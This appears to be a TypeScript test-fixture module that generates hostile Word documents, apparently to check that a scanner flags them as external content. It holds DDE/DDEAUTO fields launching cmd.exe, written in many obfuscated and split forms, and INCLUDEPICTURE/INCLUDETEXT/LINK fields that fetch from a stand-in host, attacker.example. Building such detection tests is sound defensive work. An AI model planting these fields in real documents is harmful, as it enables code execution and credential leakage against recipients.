import type { HostileKind, Variation } from '../../hostile-kind.js';
import type { Sender } from '../../sender.js';
import { DOCUMENT_END, documentStart, WORD_NAMESPACES, WORD_TYPE } from '../../twins/docx.js';
import { packed, WORD } from '../../twins/office.js';
import { DECLARATION, type Parts, withContentType, withPart, withRelation } from '../../twins/parts.js';

const COMMAND = 'c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;';

const BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const END = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';

/** An instruction in runs of its own, one for each piece; a reader joins them. */
function complexField(...pieces: readonly string[]): string {
  const runs = pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`);
  return `<w:p>${BEGIN}${runs.join('')}${END}</w:p>`;
}

function simpleField(instruction: string): string {
  return `<w:p><w:fldSimple w:instr="${instruction}"><w:r><w:t>!</w:t></w:r></w:fldSimple></w:p>`;
}

const DDE_FIELDS: readonly string[] = [
  complexField(` DDEAUTO ${COMMAND} `),
  complexField(` DDE ${COMMAND} `),
  complexField(` ddeAuto ${COMMAND} `),
  complexField(' DD', 'EAU', `TO ${COMMAND} `),
  complexField(...Array.from(` DDEAUTO ${COMMAND.replaceAll('&quot;', "'")} `)),
  complexField(`\n\t DDEAUTO\t${COMMAND}`),
  complexField(` &#68;&#68;EAUTO ${COMMAND} `),
  complexField(` D<!-- -->DEAUTO ${COMMAND} `),
  complexField(`<![CDATA[ DDEAUTO ]]>${COMMAND}`),
  simpleField(` DDEAUTO ${COMMAND} `),
  simpleField(` DDE ${COMMAND} `),
  `<w:p>${BEGIN}<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>${complexField(` DDEAUTO ${COMMAND} `).slice(5, -6)}${END}</w:p>`,
  `<w:tbl><w:tr><w:tc>${complexField(' DDE', `AUTO ${COMMAND} `)}</w:tc></w:tr></w:tbl>`,
  complexField(` DDEAUTO ${COMMAND} `).replaceAll('<w:r>', '<w:ins w:id="1" w:author="a"><w:r>').replaceAll('</w:r>', '</w:r></w:ins>'),
];

/** A field that starts a program: no macro, no relation, only an instruction in the text. */
export const DDE_FIELD: HostileKind = {
  kind: 'dde-field',
  what: 'A docx has a DDE or DDEAUTO field: whole, split over runs, nested, in capitals or not, in a table, a header or a footnote.',
  source: 'MITRE ATT&CK T1559.002; SensePost, "Macro-less code exec in MSWord", 2017; Microsoft advisory 4053440',
  *files(sender) {
    yield* withFields(sender, DDE_FIELDS);
    for (const element of ['hdr', 'ftr', 'footnotes', 'endnotes', 'comments'] as const) {
      for (const field of DDE_FIELDS.slice(0, 4)) {
        const { number, name } = sender.letter('docx');
        yield { name, expected: ['external-content'], content: () => packed(beside(WORD.parts(number), element, field)) };
      }
    }
  },
};

const ADDRESS = '&quot;http://attacker.example/a&quot;';
const INCLUDING_FIELDS: readonly string[] = [
  complexField(` INCLUDEPICTURE ${ADDRESS} \\d `),
  complexField(` INCLUDE`, `PICTURE &quot;file://attacker.example/share/a.png&quot; \\d `),
  complexField(` INCLUDETEXT ${ADDRESS} `),
  complexField(' IncludeText &quot;\\\\\\\\attacker.example\\\\share\\\\a.docx&quot; '),
  complexField(` LINK Word.Document.8 ${ADDRESS} `),
  complexField(` IMPORT ${ADDRESS} `),
  simpleField(` INCLUDEPICTURE ${ADDRESS} \\d `),
  simpleField(` INCLUDETEXT ${ADDRESS} `),
];

/** Fields that fetch a picture, a text or an object, without any relation to show for it. */
export const INCLUDING_FIELD: HostileKind = {
  kind: 'including-field',
  what: 'A docx has a field that fetches from elsewhere: INCLUDEPICTURE, INCLUDETEXT, LINK, IMPORT.',
  source: 'ECMA-376-1 17.16.5; MITRE ATT&CK T1187',
  *files(sender) {
    yield* withFields(sender, INCLUDING_FIELDS);
  },
};

function* withFields(sender: Sender, fields: readonly string[]): Iterable<Variation> {
  for (const field of fields) {
    const { number, name } = sender.letter('docx');
    yield {
      name,
      expected: ['external-content'],
      content: () => packed(withPart(WORD.parts(number), WORD.mainPart, `${documentStart(number)}${field}${DOCUMENT_END}`)),
    };
  }
}

const BESIDE = {
  hdr: { part: 'header1', type: 'header', item: null },
  ftr: { part: 'footer1', type: 'footer', item: null },
  footnotes: { part: 'footnotes', type: 'footnotes', item: 'footnote' },
  endnotes: { part: 'endnotes', type: 'endnotes', item: 'endnote' },
  comments: { part: 'comments', type: 'comments', item: 'comment' },
} as const;

/** The field in a part beside the text. */
function beside(parts: Parts, element: keyof typeof BESIDE, field: string): Parts {
  const { part, type, item } = BESIDE[element];
  const inner = item === null ? field : `<w:${item} w:id="2">${field}</w:${item}>`;
  const content = `${DECLARATION}<w:${element} ${WORD_NAMESPACES}>${inner}</w:${element}>`;
  const related = withRelation(withPart(parts, `word/${part}.xml`, content), WORD.mainRelations, {
    id: 'rId9',
    type,
    target: `${part}.xml`,
  });
  return withContentType(related, `word/${part}.xml`, `${WORD_TYPE}.${type}+xml`);
}
